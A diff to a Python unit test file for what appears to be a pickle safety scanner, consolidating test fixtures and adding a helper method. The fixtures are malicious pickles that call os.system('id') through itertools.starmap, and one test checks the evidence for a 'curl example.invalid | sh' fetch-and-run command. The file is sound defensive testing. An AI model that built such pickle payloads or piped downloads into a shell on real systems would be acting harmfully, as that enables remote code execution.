@@ -101,12 +101,24 @@ CASES = {
 }
 
 
+# name -> objects pickled in one list, for the tests below that check more than the summary.
+OTHERS = {
+    "starmap": [Call(list, Call(itertools.starmap, real("os.system"), [("id",)]))],
+    "update-wrapper": [Call(functools.update_wrapper, len, abs)],
+    "plain": [Call(sorted, ["b", "a"]), Call(max, 3, 4), Call(list, Call(filter, None, [1, 0]))],
+}
+
+
 class Explain(unittest.TestCase):
     @classmethod
     def setUpClass(cls):
         cls.tmp = tempfile.TemporaryDirectory()
         named = {n: pickle.dumps(c[0], protocol=2) for n, c in CASES.items()}
+        named.update({n: pickle.dumps(objs, protocol=2) for n, objs in OTHERS.items()})
         cls.paths, cls.got = mvtest.scan_named_pickles(cls.tmp.name, named)
+
+    def entry(self, name):
+        return self.got[os.path.realpath(self.paths[name])]
 
     @classmethod
     def tearDownClass(cls):
@@ -115,7 +127,7 @@ class Explain(unittest.TestCase):
     def test_summaries_name_the_action_and_argument(self):
         for name, (_, want, never) in CASES.items():
             with self.subTest(name):
-                e = self.got[os.path.realpath(self.paths[name])]
+                e = self.entry(name)
                 self.assertEqual(e["verdict"], "unsafe", e)
                 self.assertTrue(e["summary"].startswith(want), e["summary"])
                 for bad in never:
@@ -127,42 +139,30 @@ class Explain(unittest.TestCase):
         for name, commands in (("map-decoy-first-item", ["'true'", "'curl example.invalid | sh'"]),
                                ("min-key-positional-items", ["'id'", "'uname'"])):
             with self.subTest(name):
-                e = self.got[os.path.realpath(self.paths[name])]
+                e = self.entry(name)
                 evidence = [f["evidence"] for f in e["findings"] if f["severity"] == "critical"]
                 for c in commands:
                     self.assertTrue(any(c in ev for ev in evidence), (c, evidence))
 
     def test_starmap_item_is_the_argument_list(self):
         # starmap(os.system, [('id',)]) runs os.system('id'): the evidence is that call.
-        with tempfile.TemporaryDirectory() as tmp:
-            named = {"sm": pickle.dumps(
-                Call(list, Call(itertools.starmap, real("os.system"), [("id",)])), protocol=2)}
-            paths, got = mvtest.scan_named_pickles(tmp, named)
-            e = got[os.path.realpath(paths["sm"])]
-            self.assertEqual(e["findings"][0]["evidence"], "posix.system('id')", e)
+        e = self.entry("starmap")
+        self.assertEqual(e["findings"][0]["evidence"], "posix.system('id')", e)
 
     def test_update_wrapper_is_not_cleared_as_a_wrapper(self):
         # update_wrapper(w, f) copies f's __dict__ into w: a call that changes its first
         # argument (a module's attributes, if w is one) stays for the rules to judge.
-        with tempfile.TemporaryDirectory() as tmp:
-            named = {"uw": pickle.dumps(Call(functools.update_wrapper, len, abs), protocol=2)}
-            paths, got = mvtest.scan_named_pickles(tmp, named)
-            e = got[os.path.realpath(paths["uw"])]
-            self.assertNotEqual(e["verdict"], "safe", e)
-            self.assertIn("update_wrapper", e["summary"])
+        e = self.entry("update-wrapper")
+        self.assertNotEqual(e["verdict"], "safe", e)
+        self.assertIn("update_wrapper", e["summary"])
 
     def test_plain_sorted_is_not_a_finding(self):
         # Without key= these builtins call nothing, nor does filter(None, items): no review.
-        with tempfile.TemporaryDirectory() as tmp:
-            named = {"plain": pickle.dumps([Call(sorted, ["b", "a"]), Call(max, 3, 4),
-                                            Call(list, Call(filter, None, [1, 0]))],
-                                           protocol=2)}
-            paths, got = mvtest.scan_named_pickles(tmp, named)
-            e = got[os.path.realpath(paths["plain"])]
-            self.assertEqual(e["verdict"], "safe", e)
+        e = self.entry("plain")
+        self.assertEqual(e["verdict"], "safe", e)
 
     def test_others_are_counted_after_the_headline(self):
-        e = self.got[os.path.realpath(self.paths["dangerous-call-headlined"])]
+        e = self.entry("dangerous-call-headlined")
         self.assertTrue(e["summary"].endswith("(+1 more dangerous finding)"), e["summary"])
 
 
